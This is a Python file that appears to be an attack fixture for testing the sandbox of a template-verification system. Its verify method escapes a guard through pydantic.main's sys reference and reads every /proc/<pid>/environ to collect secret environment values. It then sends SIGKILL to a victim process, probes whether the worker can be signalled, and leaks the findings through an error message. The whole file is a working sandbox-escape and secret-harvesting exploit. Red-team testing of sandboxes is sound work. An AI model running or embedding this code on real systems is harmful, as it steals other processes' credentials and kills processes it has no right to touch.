# seccomp-mode attack: escape the guard (pydantic.main's sys), then reach the
# worker through the operating system: read every /proc/<pid>/environ for the
# worker's secrets, SIGKILL a process of the worker's user (__VICTIM__) and test
# whether the worker itself (__WORKER__) can be signalled. What it got is
# reported in this template's own error text.
from pydantic import main
from verifleet.templates import BaseAnswer

_MARK = "".join(["ENV", "SECRET", "-"])


class Answer(BaseAnswer):
    value: str

    def model_post_init(self, context):
        self.correct = {"value": "attacker"}

    def verify(self) -> bool:
        os = main.sys.modules["os"]
        found = set()
        for name in os.listdir("/proc"):
            if not name.isdigit():
                continue
            try:
                fd = os.open("/proc/" + name + "/environ", os.O_RDONLY)
            except main.sys.modules["builtins"].OSError:
                continue
            env = os.read(fd, 1 << 20)
            os.close(fd)
            for item in env.split(b"\0"):
                if _MARK.encode() in item:
                    found.add(item.decode(errors="replace"))
        outcome = []
        for what, pid, sig in (("victim", __VICTIM__, 9), ("worker", __WORKER__, 0)):
            try:
                os.kill(pid, sig)
                outcome.append(what + "=signalled")
            except main.sys.modules["builtins"].OSError as exc:
                outcome.append(what + "=errno" + str(exc.errno))
        seen = os.path.exists("/proc/" + str(__WORKER__))
        raise ValueError(
            "LEAK[" + " | ".join(sorted(found)) + "] " + " ".join(outcome) + " seen=" + str(seen)
        )
